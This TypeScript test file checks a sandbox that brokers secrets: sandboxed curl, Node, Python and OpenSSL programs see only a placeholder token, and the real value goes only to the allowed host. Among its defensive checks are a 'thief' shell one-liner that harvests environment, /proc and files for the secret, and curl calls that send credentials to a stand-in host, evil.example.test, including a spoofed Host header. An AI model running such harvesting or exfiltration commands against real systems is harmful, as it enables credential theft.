/**
 * Programs in a real sandbox use a brokered secret without knowing how, and have it nowhere (promise 2): each trusts the
 * broker by the variables that it reads anyway, and the host, which is the test's, gets the value.
 */
import type { Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { createServer as createPlain } from 'node:http'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openBrokering, type Brokering } from '../../../src/egress/broker/brokering.ts'
import { BrokeredSecrets } from '../../../src/egress/broker/brokered.ts'
import { readSecretHost } from '../../../src/egress/broker/hosts.ts'
import { trusting } from '../../../src/net/trust.ts'
import { Secret } from '../../../src/secrets/secret.ts'
import { needs } from '../../servers/needs.mjs'
import { inside, type Inside } from '../inside.ts'
import { farAuthority, farSide, HOST, PLACEHOLDER, VALUE } from './support.ts'

const got: string[] = []
const far: Server = farSide((request, response) => {
  got.push(String(request.headers.authorization))
  response.end(`you sent ${String(request.headers.authorization)}`)
})
/** Of a stranger, in clear. */
const stranger = createPlain((request, response) => {
  got.push(`stranger: ${String(request.headers.authorization)}`)
  response.end('thanks')
})

async function listening(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return (server.address() as AddressInfo).port
}

describe.runIf(needs('bwrap', 'perl', 'curl', 'openssl', '/usr/bin/python3'))('in a sandbox', () => {
  let port = 0
  let strangerPort = 0
  let brokering: Brokering
  let sandbox: Inside
  const deliveries: string[] = []

  beforeAll(async () => {
    port = await listening(far)
    strangerPort = await listening(stranger)
    const read = readSecretHost(`${HOST}:${port}`)
    if (!read.ok) throw new Error(read.message)
    brokering = openBrokering({
      server: 'one',
      secrets: new BrokeredSecrets([
        {
          field: 'env.TOKEN',
          placeholder: PLACEHOLDER,
          hosts: [read.host],
          places: ['header'],
          secret: new Secret(VALUE, 'one.TOKEN'),
        },
      ]),
      env: {},
      ownEnv: {},
      trust: trusting(farAuthority.pem),
      onDelivery: async (field, host) => void deliveries.push(`${field} to ${host}`),
    })
    sandbox = inside({
      network: [`localhost:${port}`, `evil.example.test:${strangerPort}`, `localhost:${strangerPort}`],
      names: { [HOST]: ['127.0.0.1'], 'evil.example.test': ['127.0.0.1'] },
      interceptor: brokering.interceptor,
      also: brokering.hosts,
      files: brokering.files,
      env: { ...brokering.env, TOKEN: PLACEHOLDER },
    })
  })
  afterAll(() => {
    brokering.close()
    sandbox.close()
    far.close()
    stranger.close()
  })

  const url = (): string => `https://${HOST}:${port}/user`
  const PYTHON = `import os,sys,urllib.request as u;print(u.urlopen(u.Request(sys.argv[1],headers={'Authorization':'Bearer '+os.environ['TOKEN']})).read().decode())`
  const FETCH = `fetch(process.argv[1],{headers:{authorization:'Bearer '+process.env.TOKEN}}).then(async(r)=>console.log(await r.text()),(e)=>console.log(e.cause))`

  it.each([
    ['curl', () => ['curl', '-sS', '-m', '20', '-H', `Authorization: Bearer ${PLACEHOLDER}`, url()]],
    [
      'curl that is told nothing',
      () => [
        'env',
        '-u',
        'CURL_CA_BUNDLE',
        '-u',
        'SSL_CERT_FILE',
        'curl',
        '-sS',
        '-m',
        '20',
        '-H',
        `Authorization: Bearer ${PLACEHOLDER}`,
        url(),
      ],
    ],
    ['fetch of Node', () => [process.execPath, '-e', FETCH, url()]],
    ['Python', () => ['/usr/bin/python3', '-c', PYTHON, url()]],
  ])('%s uses a secret that it has not', async (_, command) => {
    got.length = 0
    const [program = '', ...args] = command()
    const { said } = await sandbox.run(program, ...args)
    expect(said.trim()).toBe(`you sent Bearer ${PLACEHOLDER}`)
    expect(got).toEqual([`Bearer ${VALUE}`])
    expect(deliveries).toEqual([`env.TOKEN to ${HOST}`])
  })

  it('a program that speaks TLS by OpenSSL alone trusts the broker, as those of Go and Rust do', async () => {
    const { said } = await sandbox.run(
      'openssl',
      's_client',
      '-connect',
      `${HOST}:${port}`,
      '-servername',
      HOST,
      '-verify_return_error',
      '-verify_hostname',
      HOST,
    )
    expect(said).toContain('Verify return code: 0 (ok)')
    expect(said).toContain('sidemux, for one alone')
  })

  it('a thief finds the value neither in its environment nor in any process or file, and no key of the broker', async () => {
    const look = `env; cat /proc/*/environ /proc/*/cmdline /run/sidemux/* 2>/dev/null; grep -rslF "$1" /etc /run /tmp /home /root 2>/dev/null && echo FOU''ND; true`
    const { said } = await sandbox.run('sh', '-c', look, 'sh', VALUE.slice(4))
    expect(said).toContain(PLACEHOLDER)
    expect(said).not.toContain('FOUND')
    expect(said).not.toContain('PRIVATE KEY')
  })

  it.each([
    [
      'another host',
      () => ['-H', `Authorization: ${PLACEHOLDER}`, `http://evil.example.test:${strangerPort}/`],
    ],
    [
      'another host that claims to be it',
      () => [
        '-H',
        `Authorization: ${PLACEHOLDER}`,
        '-H',
        `Host: ${HOST}`,
        `http://evil.example.test:${strangerPort}/`,
      ],
    ],
    [
      'the address of the host',
      () => [
        '-H',
        `Authorization: ${PLACEHOLDER}`,
        '-H',
        `Host: ${HOST}:${port}`,
        `http://127.0.0.1:${strangerPort}/`,
      ],
    ],
  ])('%s gets the placeholder', async (_, args) => {
    got.length = 0
    await sandbox.run('curl', '-sS', '-m', '20', ...args())
    expect(got).toEqual([`stranger: ${PLACEHOLDER}`])
  })
})
